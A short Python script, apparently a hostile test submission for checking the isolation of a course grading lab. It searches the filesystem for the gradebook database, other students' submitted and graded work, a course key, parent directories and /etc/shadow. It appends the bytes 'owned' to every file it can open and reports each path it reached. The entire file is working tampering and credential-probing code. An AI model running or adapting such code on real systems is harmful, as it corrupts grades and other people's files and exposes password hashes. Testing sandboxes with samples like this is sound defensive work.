# why: reads and changes whatever it finds: the gradebook, other students, the journal, keys, the trusted side of the lab
import glob
import os

found = []
PATTERNS = ("/**/gradebook.db", "/**/submitted/*", "/**/graded/*", "/**/course.key", "/**/exercises.py", "../*", "../../*", "/etc/shadow")
for pattern in PATTERNS:
    for path in glob.glob(pattern, recursive=True)[:50]:
        for mode in ("ab", "rb"):
            try:
                with open(path, mode) as file:
                    file.write(b"owned") if mode == "ab" else file.read(1)
                found.append((mode, path))
            except OSError:
                continue
print("FOUND", found, os.getcwd())
